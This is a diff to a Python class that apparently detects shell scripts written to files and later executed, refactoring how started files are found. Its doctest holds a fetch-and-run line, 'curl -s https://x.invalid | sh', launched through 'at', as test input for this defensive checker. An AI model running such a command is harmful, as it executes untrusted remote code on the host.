@@ -187,20 +187,20 @@ class Files:
         >>> list(files.programs(["at -f /tmp/.a now"])), list(files.programs(["cat /tmp/.a"]))
         ([(3, 'curl -s https://x.invalid | sh')], [])
         """
+        started = {name for text in texts for name in self._started(text)}
         for name, pieces in self.texts.items():
             said = "\n".join(pieces)
-            if _SAYS_COMMAND.search(said) and (
-                said.lstrip().startswith("#!") or any(_is_started(name, text) for text in texts)
-            ):
+            if _SAYS_COMMAND.search(said) and (name in started or said.lstrip().startswith("#!")):
                 yield self.lines[name], said
 
-
-def _is_started(name: str, text: str) -> bool:
-    """Whether a command starts a file, or has it started."""
-    place = text.find(name)
-    if place < 0 or text.startswith(("echo #!", "printf #!")):
-        return False
-    return place == 0 or text[:place].endswith(("& ", "; ", "&& ", "( ")) or _STARTS.search(text) is not None
+    def _started(self, text: str) -> Iterator[str]:
+        """The files that a command starts, or has started."""
+        if text.startswith(("echo #!", "printf #!")):
+            return
+        words = [word.strip("()\"';&|") for word in text.split()]
+        if named := [place for place, word in enumerate(words) if word in self.texts]:
+            starts = _STARTS.search(text) is not None
+            yield from (words[place] for place in named if place == 0 or starts)
 
 
 def scripts_written(words: list[str], writes: list[str], heredoc: str) -> Iterator[str]:
